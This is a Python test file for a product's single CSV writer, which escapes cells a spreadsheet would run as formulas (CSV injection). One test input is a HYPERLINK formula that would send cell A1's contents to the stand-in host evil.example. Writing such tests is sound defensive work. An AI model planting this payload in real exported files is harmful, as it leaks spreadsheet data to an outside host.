"""Issue 13, finding 5: one CSV writer, which every CSV the product writes goes through, and which neutralises every
cell a spreadsheet would run as a formula (OWASP "CSV Injection")."""

import ast
import csv
import io
from pathlib import Path

import pytest

from doorstep.core.csv import csv_text, neutralise

ROOT = Path(__file__).resolve().parents[3]
THE_WRITER = ROOT / "doorstep" / "core" / "csv.py"
WRITERS = {"writer", "DictWriter"}


@pytest.mark.parametrize("cell", [
    '=HYPERLINK("https://evil.example/?"&A1,"Open")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1",
    "  =1+1", "\n=1+1", "\uff1d1+1",
])
def test_a_cell_a_spreadsheet_would_run_as_a_formula_is_written_as_text(cell):
    assert neutralise(cell) == "'" + cell
    (row,) = csv.reader(io.StringIO(csv_text([[cell, "plain"]])))
    assert row == ["'" + cell, "plain"]


@pytest.mark.parametrize("cell, written", [
    ("Testing household", "Testing household"),
    ("Seen: Alfie (alone) - home visit", "Seen: Alfie (alone) - home visit"),
    ("2026-12-24", "2026-12-24"), ("", ""), (None, ""), (3, "3"), ("it's = fine", "it's = fine"),
])
def test_other_cells_are_written_as_they_are(cell, written):
    assert neutralise(cell) == written


def _uses_a_csv_writer(path: Path) -> list[str]:
    tree = ast.parse(path.read_text(encoding="utf-8"), filename=str(path))
    modules = {"csv"}
    found = []
    for node in ast.walk(tree):
        if isinstance(node, ast.Import):
            modules |= {a.asname or a.name for a in node.names if a.name == "csv"}
        elif isinstance(node, ast.ImportFrom) and node.module == "csv":
            found += [f"from csv import {a.name}" for a in node.names if a.name in WRITERS | {"*"}]
    for node in ast.walk(tree):
        if (isinstance(node, ast.Attribute) and node.attr in WRITERS and isinstance(node.value, ast.Name)
                and node.value.id in modules):
            found.append(f"{node.value.id}.{node.attr} (line {node.lineno})")
    return found


def test_no_module_but_the_one_writer_uses_the_standard_csv_writer():
    offenders = {}
    for folder in ("doorstep", "config"):
        for path in (ROOT / folder).rglob("*.py"):
            if path != THE_WRITER and (uses := _uses_a_csv_writer(path)):
                offenders[str(path.relative_to(ROOT))] = uses
    assert offenders == {}, "Write CSV through doorstep.core.csv.csv_writer, which neutralises formulas"
    assert _uses_a_csv_writer(THE_WRITER)  # the check itself can see a writer
